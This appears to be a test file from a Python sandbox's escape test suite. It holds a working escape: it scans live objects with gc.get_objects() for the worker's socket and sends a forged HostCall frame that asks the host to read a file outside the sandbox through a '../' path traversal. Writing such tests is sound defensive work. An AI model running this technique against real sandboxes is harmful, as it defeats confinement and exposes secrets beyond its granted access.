# mypy: ignore-errors
# Technique: find the worker's channel `socket.socket` with `gc.get_objects()` and write a
# well-formed but forged HostCall frame asking the host for the secret file.
import gc


def attack(secret_path, canary_path):
    from suaveplan_sandbox.protocol import HostCall, encode

    for obj in gc.get_objects():
        if type(obj).__name__ == "socket" and hasattr(obj, "sendall"):
            print("SANDBOX-" + "ESCAPED")
            frame = encode(
                HostCall(
                    id=999,
                    capability="fs",
                    operation="read_bytes",
                    args={"path": "../outside/secret.txt"},
                )
            )
            obj.sendall(frame)
            return "sent"
    return None
